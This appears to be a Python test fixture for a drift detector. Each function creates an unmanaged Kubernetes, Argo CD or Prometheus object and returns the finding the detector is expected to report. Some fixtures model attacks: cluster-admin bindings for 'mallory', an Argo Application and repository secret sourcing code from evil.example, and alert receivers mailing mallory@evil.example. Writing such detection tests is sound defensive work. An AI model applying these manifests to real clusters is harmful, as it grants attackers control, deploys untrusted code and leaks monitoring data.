"""Manual changes in Kubernetes and Argo CD. Each function creates one object and returns the expected finding."""

from __future__ import annotations

from typing import Any

from components.kubernetes.backup_rules import restore
from model.clusters import ClusterBackup
from tests import factories
from tests.drift.inventory.hand import MARKER, Expected, Hand, deeds

_KUBE = "/apis/rbac.authorization.k8s.io/v1"
_KYVERNO = "/apis/policies.kyverno.io/v1"
_VELERO = "/apis/velero.io/v1/namespaces/velero/{}"
_ARGO = "/apis/argoproj.io/v1alpha1/namespaces/argocd"


# Kubernetes and Argo CD -----------------------------------------------------------------------------------------------


def kubernetes_namespace(hand: Hand) -> Expected:
    hand.make("/api/v1/namespaces", f"{hand.slug}-extra", namespaced=False)
    return hand.slug, "Namespace", f"{hand.cluster}: {hand.slug}-extra"


def kubernetes_labelled_namespace(hand: Hand) -> Expected:
    hand.make("/api/v1/namespaces", "extra", namespaced=False, labels={"usine.dev/tenant": hand.slug})
    return hand.slug, "Namespace", f"{hand.cluster}: extra"


def kubernetes_namespace_of_nobody(hand: Hand) -> Expected:
    hand.make("/api/v1/namespaces", "stray", namespaced=False)
    return None, "Namespace", f"{hand.cluster}: stray"


def kubernetes_role(hand: Hand) -> Expected:
    rules = [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["*"]}]
    return hand.slug, "Role", hand.make(f"{_KUBE}/namespaces/{hand.namespace}/roles", "extra", rules=rules)


def _to(kind: str, name: str, role: str, **subject: str) -> dict[str, Any]:
    api = {} if kind == "ServiceAccount" else {"apiGroup": "rbac.authorization.k8s.io"}
    return {
        "subjects": [{"kind": kind, "name": name, **api, **subject}],
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
    }


def kubernetes_role_binding(hand: Hand) -> Expected:
    path = f"{_KUBE}/namespaces/{hand.namespace}/rolebindings"
    return hand.slug, "RoleBinding", hand.make(path, "extra", **_to("User", "oidc:mallory", "cluster-admin"))


def kubernetes_role_binding_elsewhere(hand: Hand) -> Expected:
    to = _to("ServiceAccount", "vault", "view", namespace=hand.namespace)
    hand.make(f"{_KUBE}/namespaces/kube-system/rolebindings", "extra", **to)
    return hand.slug, "RoleBinding", f"{hand.cluster}: kube-system/extra"


def kubernetes_cluster_role_binding(hand: Hand) -> Expected:
    to = _to("Group", f"oidc:/{hand.slug}/owner", "cluster-admin")
    return hand.slug, "ClusterRoleBinding", hand.make(f"{_KUBE}/clusterrolebindings", "extra", namespaced=False, **to)


def kubernetes_cluster_role_binding_of_a_person(hand: Hand) -> Expected:
    to = _to("User", "oidc:mallory", "cluster-admin")
    return None, "ClusterRoleBinding", hand.make(f"{_KUBE}/clusterrolebindings", "extra-2", namespaced=False, **to)


def kubernetes_admission_binding(hand: Hand) -> Expected:
    api = "/apis/admissionregistration.k8s.io/v1"
    policy = hand.kubernetes("GET", f"{api}/validatingadmissionpolicies")["items"][0]["metadata"]["name"]
    spec = {"policyName": policy, "validationActions": ["Warn"]}
    name = hand.make(f"{api}/validatingadmissionpolicybindings", "extra", namespaced=False, spec=spec)
    return None, "ValidatingAdmissionPolicyBinding", name


def kubernetes_network_policy(hand: Hand) -> Expected:
    path = f"/apis/networking.k8s.io/v1/namespaces/{hand.namespace}/networkpolicies"
    spec = {"podSelector": {}, "ingress": [{}], "policyTypes": ["Ingress"]}
    return hand.slug, "NetworkPolicy", hand.make(path, "extra", spec=spec)


def kubernetes_quota(hand: Hand) -> Expected:
    path = f"/api/v1/namespaces/{hand.namespace}/resourcequotas"
    return hand.slug, "ResourceQuota", hand.make(path, "extra", spec={"hard": {"pods": "1"}})


def kubernetes_limits(hand: Hand) -> Expected:
    path = f"/api/v1/namespaces/{hand.namespace}/limitranges"
    limits = [{"type": "Container", "max": {"cpu": "8"}}]
    return hand.slug, "LimitRange", hand.make(path, "extra", spec={"limits": limits})


def kubernetes_image_policy(hand: Hand) -> Expected:
    path = f"{_KYVERNO}/namespaces/{hand.namespace}/namespacedimagevalidatingpolicies"
    attestor = {"name": "any", "cosign": {"key": {"data": "key"}}}
    body: dict[str, Any] = {"apiVersion": "policies.kyverno.io/v1", "kind": "NamespacedImageValidatingPolicy"}
    body["spec"] = {"attestors": [attestor], "validations": [{"expression": "true"}]}
    return hand.slug, "NamespacedImageValidatingPolicy", hand.make(path, "extra", **body)


def kubernetes_secret_of_the_verifier(hand: Hand) -> Expected:
    labels = {"app.kubernetes.io/managed-by": "usine", "usine.dev/tenant": hand.slug}
    path = "/api/v1/namespaces/kyverno/secrets"
    hand.make(path, "extra", namespaced=False, labels=labels, stringData={"key": MARKER})
    return hand.slug, "Secret", f"{hand.cluster}: kyverno/extra"


def kubernetes_backup_schedule(hand: Hand) -> Expected:
    spec = {"schedule": "0 0 * * *", "template": {"includedNamespaces": [hand.namespace], "storageLocation": "mine"}}
    body: dict[str, Any] = {"apiVersion": "velero.io/v1", "kind": "Schedule", "spec": spec}
    hand.make(_VELERO.format("schedules"), "extra", namespaced=False, **body)
    return hand.slug, "Schedule", f"{hand.cluster}: velero/extra"


def kubernetes_restore(hand: Hand) -> Expected:
    """What `usine restore` prints is accepted by the API server, and found until it is deleted."""
    tenant, environment = factories.tenant(hand.slug), factories.environment("dev")
    body = restore(tenant, environment, ClusterBackup(), backup=None, requested_by="alice.martin")
    made = hand.kubernetes("POST", _VELERO.format("restores"), body)
    return hand.slug, "Restore", f"{hand.cluster}: velero/{made['metadata']['name']}"


def kubernetes_account(hand: Hand) -> Expected:
    return hand.slug, "ServiceAccount", hand.make(f"/api/v1/namespaces/{hand.namespace}/serviceaccounts", "extra")


def kubernetes_secret_like_ours(hand: Hand) -> Expected:
    path = f"/api/v1/namespaces/{hand.namespace}/secrets"
    labels = {"app.kubernetes.io/managed-by": "usine"}
    return hand.slug, "Secret", hand.make(path, "extra", labels=labels, stringData={"key": MARKER})


_EXTERNAL_SECRETS = "/apis/external-secrets.io/v1/namespaces"


def kubernetes_store(hand: Hand) -> Expected:
    login = {"mountPath": f"kubernetes/{hand.cluster}", "role": hand.namespace, "serviceAccountRef": {"name": "vault"}}
    vault = {"server": hand.lab.vault.url, "path": hand.slug, "auth": {"kubernetes": login}}
    body: dict[str, Any] = {
        "apiVersion": "external-secrets.io/v1",
        "kind": "SecretStore",
        "spec": {"provider": {"vault": vault}},
    }
    path = f"{_EXTERNAL_SECRETS}/{hand.namespace}/secretstores"
    return hand.slug, "SecretStore", hand.make(path, "extra", **body)


def kubernetes_external_secret(hand: Hand) -> Expected:
    spec = {"secretStoreRef": {"name": "vault"}, "dataFrom": [{"extract": {"key": "env/dev/extra"}}]}
    body: dict[str, Any] = {"apiVersion": "external-secrets.io/v1", "kind": "ExternalSecret", "spec": spec}
    path = f"{_EXTERNAL_SECRETS}/{hand.namespace}/externalsecrets"
    return hand.slug, "ExternalSecret", hand.make(path, "extra", **body)


def argocd_project(hand: Hand) -> Expected:
    name = f"{hand.slug}-extra"
    body = {"apiVersion": "argoproj.io/v1alpha1", "kind": "AppProject", "spec": {"sourceRepos": ["*"]}}
    hand.make(f"{_ARGO}/appprojects", name, namespaced=False, **body)
    return hand.slug, "AppProject", f"{hand.cluster}: argocd/{name}"


def argocd_application(hand: Hand) -> Expected:
    spec = {
        "project": f"{hand.slug}-dev",
        "source": {"repoURL": "https://evil.example/x.git", "path": "."},
        "destination": {"server": "https://kubernetes.default.svc", "namespace": hand.namespace},
    }
    body = {"apiVersion": "argoproj.io/v1alpha1", "kind": "Application", "spec": spec}
    hand.make(f"{_ARGO}/applications", "extra", namespaced=False, **body)
    return hand.slug, "Application", f"{hand.cluster}: argocd/extra"


def argocd_application_set(hand: Hand) -> Expected:
    spec = {
        "generators": [{"list": {"elements": [{"project": "default"}]}}],
        "template": {
            "metadata": {"name": "extra-{{project}}"},
            "spec": {"project": "{{project}}", "destination": {"namespace": hand.namespace}},
        },
    }
    name = f"{hand.slug}-dev--extra"
    body = {"apiVersion": "argoproj.io/v1alpha1", "kind": "ApplicationSet", "spec": spec}
    hand.make(f"{_ARGO}/applicationsets", name, namespaced=False, **body)
    return hand.slug, "ApplicationSet", f"{hand.cluster}: argocd/{name}"


def _argocd_secret(hand: Hand, name: str, kind: str, **data: str) -> str:
    labels = {"argocd.argoproj.io/secret-type": kind}
    hand.make("/api/v1/namespaces/argocd/secrets", name, namespaced=False, labels=labels, stringData=data)
    return f"{hand.cluster}: argocd/{name}"


def argocd_repository(hand: Hand) -> Expected:
    name = f"usine-{hand.slug}--extra"
    where = "https://evil.example/x.git"
    return hand.slug, "Secret", _argocd_secret(hand, name, "repository", url=where, password=MARKER)


def argocd_cluster(hand: Hand) -> Expected:
    made = _argocd_secret(hand, "extra", "cluster", server="https://evil.example", config=f'{{"t": "{MARKER}"}}')
    return None, "Secret", made


_MONITORING = "monitoring.coreos.com"


def _monitoring(hand: Hand, kind: str, namespace: str, name: str, version: str = "v1", **parts: Any) -> str:
    path = f"/apis/{_MONITORING}/{version}/namespaces/{namespace}/{kind.lower()}s"
    hand.make(path, name, namespaced=False, apiVersion=f"{_MONITORING}/{version}", kind=kind, **parts)
    return f"{hand.cluster}: {namespace}/{name}"


def observability_receivers(hand: Hand) -> Expected:
    to = [{"to": "mallory@evil.example"}]
    spec = {"route": {"receiver": "x"}, "receivers": [{"name": "x", "emailConfigs": to}]}
    made = _monitoring(hand, "AlertmanagerConfig", hand.namespace, "extra", "v1alpha1", spec=spec)
    return hand.slug, "AlertmanagerConfig", made


def observability_rule(hand: Hand) -> Expected:
    rules = [{"alert": "Extra", "expr": "up == 0"}]
    spec = {"groups": [{"name": "extra", "rules": rules}]}
    return hand.slug, "PrometheusRule", _monitoring(hand, "PrometheusRule", hand.namespace, "extra", spec=spec)


def observability_monitor(hand: Hand) -> Expected:
    spec = {"selector": {}, "podMetricsEndpoints": [{"port": "secret"}]}
    return hand.slug, "PodMonitor", _monitoring(hand, "PodMonitor", hand.namespace, "extra", spec=spec)


def observability_receivers_for_deployments(hand: Hand) -> Expected:
    labels = {"usine.dev/tenant": hand.slug}
    spec = {"route": {"receiver": "x"}, "receivers": [{"name": "x"}]}
    made = _monitoring(hand, "AlertmanagerConfig", "argocd", "extra", "v1alpha1", labels=labels, spec=spec)
    return hand.slug, "AlertmanagerConfig", made


def observability_in_the_namespace_of_grafana(hand: Hand) -> Expected:
    labels = {"usine.dev/tenant": hand.slug}
    hand.make("/api/v1/namespaces/grafana/configmaps", "extra", namespaced=False, labels=labels)
    return hand.slug, "ConfigMap", f"{hand.cluster}: grafana/extra"


#: In an order in which they can be created.
DEEDS = deeds(globals(), ("kubernetes", "argocd", "observability"))
